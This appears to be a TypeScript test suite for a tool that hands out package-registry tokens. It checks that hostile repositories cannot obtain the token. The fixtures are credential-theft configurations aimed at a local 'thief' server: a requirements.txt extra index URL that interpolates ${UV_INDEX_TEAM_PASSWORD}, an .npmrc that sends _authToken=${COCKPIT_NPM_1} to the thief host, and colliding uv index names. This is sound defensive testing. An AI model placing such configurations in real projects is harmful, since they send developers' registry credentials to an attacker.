/** Repositories whose files try to get a token: real tools under `auth exec`, beside a server that keeps everything it is sent. */
import assert from "node:assert/strict";
import { readdirSync, readFileSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { after, afterEach, before, describe, test } from "node:test";
import { listen } from "./failover/listen.ts";
import { openWorld, username, type World, write } from "./world.ts";

let world: World;
let thief: Server;
let stolen: string[];
let thiefUrl: string;
before(async () => {
  world = await openWorld();
  thief = createServer(({ url, rawHeaders }, response) => {
    const pairs = rawHeaders.map((it) => (it.startsWith("Basic ") ? Buffer.from(it.slice(6), "base64").toString() : it));
    stolen.push(`${url} ${rawHeaders.join(" ")} ${pairs.join(" ")}`);
    response.writeHead(401, { "www-authenticate": 'Basic realm="thief"' }).end();
  });
  thiefUrl = await listen(thief);
});
after(async () => {
  thief.closeAllConnections();
  thief.close();
  await world.close();
});
afterEach(() => rmSync(join(world.home, ".config"), { recursive: true, force: true }));

const simple = () => `${world.pypi.url}/simple/`;

/** Runs it and tells what of the token the thief got, and what stood among the arguments of any process meanwhile. */
async function attempt(command: readonly string[], cwd: string) {
  stolen = [];
  const found = new Set<string>();
  const looking = setInterval(() => {
    for (const line of commandLines()) for (const form of world.tokenForms()) if (line.includes(form)) found.add(line);
  }, 20);
  const { code, stderr } = await world.exec(command, { cwd, env: { UV_HTTP_RETRIES: "0", PIP_RETRIES: "0", PIP_NO_INPUT: "1" } });
  clearInterval(looking);
  const got = stolen.filter((it) => world.tokenForms().some((form) => it.includes(form) || decodeURIComponent(it).includes(form)));
  return { code, stderr, got, asked: stolen.length > 0, arguments: [...found] };
}

const commandLines = (): string[] =>
  readdirSync("/proc")
    .filter((it) => /^\d+$/.test(it))
    .map((it) => {
      try {
        return readFileSync(`/proc/${it}/cmdline`, "latin1");
      } catch {
        return "";
      }
    });

describe("a repository gets no token", () => {
  test("by an index that shares its variables with the house's", async () => {
    const cwd = world.project({
      "pyproject.toml": `[project]\nname = "agent"\nversion = "1"\ndependencies = ["acme-core"]\n
[[tool.uv.index]]\nname = "a-b"\nurl = "${simple()}"\n\n[[tool.uv.index]]\nname = "a_b"\nurl = "${thiefUrl}/simple/"\n
[tool.uv.sources]\nacme-core = { index = "a_b" }\n`,
    });
    for (const command of [
      ["uv", "sync", "--no-cache"],
      ["sh", "-c", "uv sync --no-cache"],
    ]) {
      const { got, asked } = await attempt(command, cwd);
      assert.deepEqual({ got, asked }, { got: [], asked: true });
    }
  });

  test("by variables in a requirements file", async () => {
    write(world.home, { ".config/pip/pip.conf": `[global]\nindex-url = ${simple()}\n` });
    const named = ["PIP_INDEX_URL", "COCKPIT_PYTHON_1", "UV_INDEX_TEAM_PASSWORD"].map((it) => `\${${it}}`).join("/");
    const cwd = world.project({
      "uv.toml": `[[index]]\nname = "team"\nurl = "${simple()}"\n`,
      "requirements.txt": `--extra-index-url ${thiefUrl}/${named}/\nacme-core\nthief-x\n`,
    });
    for (const command of [
      ["pip", "download", "--no-cache-dir", "-d", "w", "-r", "requirements.txt"],
      ["uv", "pip", "install", "--no-cache", "--target", "t", "-r", "requirements.txt"],
    ]) {
      const { got, asked, stderr } = await attempt(command, cwd);
      assert.deepEqual({ got, asked }, { got: [], asked: true }, stderr);
    }
  });

  test("by variables and hosts in an .npmrc", async () => {
    const host = thiefUrl.slice("http:".length);
    const cwd = world.project({
      "package.json": JSON.stringify({ name: "agent", dependencies: { "@acme/core": "1", "@thief/x": "1" } }),
      ".npmrc": `@acme:registry=${world.npm.url}/\n@thief:registry=${thiefUrl}/\n${host}/:_authToken=\${COCKPIT_NPM_1}\n`,
    });
    const { got, asked } = await attempt(["npm", "install", "--no-audit", "--no-fund", "--fetch-retries=0"], cwd);
    assert.deepEqual({ got, asked }, { got: [], asked: true });
  });

  test("by an address that reads as the house's to one and as another to others", async () => {
    const keyring = (address: string) => world.exec(["sh", "-c", `keyring get '${address}' ${username}`], { cwd: project });
    const project = world.project({ "uv.toml": `[[index]]\nname = "team"\nurl = "${simple()}"\n` });
    assert.equal((await keyring(simple())).stdout, `${world.token()}\n`);
    for (const address of [new URL(simple()).host, `${thiefUrl}/simple/`]) assert.equal((await keyring(address)).stdout, "");
  });
});

test("no process has a token among its arguments, that of pip's own pip included", async () => {
  write(world.home, { ".config/pip/pip.conf": `[global]\nindex-url = ${simple()}\n` });
  const cwd = world.project({
    "pyproject.toml": `[build-system]\nrequires = ["acme-core"]\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "agent"\nversion = "1"\n`,
    "backend.py": `import time\ndef build_wheel(*_): raise SystemExit("built with acme-core")\n`,
  });
  for (const command of [
    ["pip", "wheel", "--no-cache-dir", "-w", "w", "."],
    ["sh", "-c", "pip wheel --no-cache-dir -w w ."],
  ]) {
    const { stderr, arguments: found } = await attempt(command, cwd);
    assert.match(stderr, /built with acme-core/);
    assert.deepEqual(found, []);
  }
});
